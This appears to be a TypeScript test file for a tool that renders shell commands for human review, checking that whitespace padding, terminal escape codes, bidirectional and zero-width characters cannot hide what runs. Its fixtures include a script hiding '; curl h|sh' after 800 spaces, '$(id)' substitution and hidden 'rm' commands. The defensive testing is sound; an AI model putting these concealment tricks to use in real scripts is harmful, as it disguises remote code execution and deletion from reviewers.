import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { en } from "../../src/i18n/en.ts";
import { argvRows } from "../../src/view/exact.ts";
import { command, panel, run, text } from "./helpers.ts";

const argv = (...words: string[]) => text(argvRows(words, en));

describe("the command panel", () => {
  it("shows a plain command", () => {
    expect(panel(run())).toMatchInlineSnapshot(`
      "Command #3 <digest>
        why: See whether it works.
        run: npm test
        in: . (the workspace itself)
        program: /usr/bin/npm
        time limit: 2 min
        sandbox: none, it is switched off: the program can do what you can, and read this process's environment
        environment: 2 variables: CI, PATH"
    `);
  });

  it("shows a check with all that is bound to it", () => {
    const commands = [
      command({
        scripts: [
          { name: "pretest", body: "tsc -p ." },
          { name: "test", body: `vitest run${" ".repeat(800)}; curl h|sh` },
        ],
        inputs: [
          { path: "package.json", hash: "0".repeat(64) },
          { path: "vitest.config.ts", hash: "1".repeat(64) },
        ],
        timeoutMs: 600_000,
      }),
      command({ argv: ["npm", "run", "lint"], cwd: "packages/a b", timeoutMs: 90_000 }),
    ];
    const content = run({
      commands,
      check: { origin: "manifest", label: "npm test", baseline: true },
      traits: [
        { trait: "runs-project-code", because: "npm test" },
        { trait: "destructive", because: "rm" },
      ],
      sandbox: { kind: "bubblewrap", network: false, git: "read-only" },
      environment: [],
    });
    expect(panel(content)).toMatchInlineSnapshot(`
      "Check before any change #3 <digest>
        why: See whether it works.
        check: from the project, before any change
        run 1 of 2: npm test
        in: . (the workspace itself)
        program: /usr/bin/npm
        scripts:
          pretest: tsc -p .
          test: "vitest run\\{800 spaces}; curl h|sh"
        depends on: package.json, vitest.config.ts
        time limit: 10 min
        run 2 of 2: npm run lint
        in: packages/a b
        program: /usr/bin/npm
        time limit: 1 min 30 s
        destructive:
          run this project's code (npm test)
          destroy work (rm)
        sandbox: only the workspace can be written, its git files not; no network; the home folder's keys are hidden
        environment: 0 variables"
    `);
  });

  it("T01, T02: hides nothing", () => {
    const hostile = command({
      argv: ["sh", "-c", "echo ok\n\u001b[2Jrm keep"],
      cwd: "a\u202eb",
      program: "/tmp/\u200bsh",
      scripts: [{ name: "te\rst", body: "a\nb\u001b]0;x" }],
    });
    const content = run({ commands: [hostile], traits: [{ trait: "opaque", because: "sh\u001bc" }] });
    expect(panel(content)).toMatchInlineSnapshot(`
      "Command #3 <digest>
        why: See whether it works.
        run:
          sh -c "echo ok\\n
          \\u001b[2Jrm keep"
        in: a\\u{202E}b
        program: /tmp/\\u{200B}sh
        scripts:
          te␍st:
            "a\\n
            b\\u001b]0;x"
        time limit: 2 min
        shell-write: do what cannot be seen from here (sh␛c)
        sandbox: none, it is switched off: the program can do what you can, and read this process's environment
        environment: 2 variables: CI, PATH"
    `);
  });
});

describe("an argv", () => {
  it.each([
    [["npm", "run", "a:b", "--x=1,2", "./a@1^"], "npm run a:b --x=1,2 ./a@1^"],
    [
      ["echo", "", "a b", 'say "hi"', "a\\n", "$(id)", "~/x"],
      'echo "" "a b" "say \\"hi\\"" "a\\\\n" "$(id)" "~/x"',
    ],
    [["cat", "漢字.txt", "e\u0301"], 'cat 漢字.txt "e\u0301"'],
    [["rm", "a\u202etxt.b"], 'rm "a\\u{202E}txt.b"'],
    [["rm", "a\\u{202E}txt.b"], 'rm "a\\\\u{202E}txt.b"'],
    [["rm", "a\u200bb", "\u3164", "a\u00a0b"], 'rm "a\\u{200B}b" "\\u{3164}" "a\\u{A0}b"'],
    [["printf", "\u001b[2J\u007f\t\r"], 'printf "\\u001b[2J\\u007f\\t\\r"'],
    [["echo", `ok${" ".repeat(300)}; rm keep`], 'echo "ok\\{300 spaces}; rm keep"'],
    [["echo", `ok${"\n".repeat(300)}; rm keep`], 'echo "ok\\{300 newlines}\n; rm keep"'],
    [["echo", "\\{300 spaces}"], 'echo "\\\\{300 spaces}"'],
    [["sh", "-c", "one\ntwo\n", "end"], 'sh -c "one\\n\ntwo\\n" end'],
  ])("%j", (words, shown) => {
    expect(argv(...words)).toBe(shown);
  });

  it("T02: shows every line of a long script", () => {
    const script = [...Array.from({ length: 59 }, (_, i) => `line ${i}`), "rm keep"].join("\n");
    expect(argv("sh", "-c", script).split("\n")).toHaveLength(60);
    expect(argv("sh", "-c", script)).toMatch(/\nrm keep"$/);
  });

  it("never looks like another one", () => {
    const word = fc.oneof(
      fc.string({ unit: "binary", maxLength: 5 }),
      fc
        .array(
          fc.constantFrom("a", " ", " ".repeat(9), "\n", "\\", "\\n", '"', "\u202e", "\u241b", "{9 spaces}"),
          { maxLength: 6 },
        )
        .map((parts) => parts.join("")),
    );
    const words = fc.array(word, { minLength: 1, maxLength: 3 });
    fc.assert(
      fc.property(words, words, (a, b) => {
        expect(argv(...a) === argv(...b)).toBe(JSON.stringify(a) === JSON.stringify(b));
      }),
      { numRuns: 1000 },
    );
  });
});
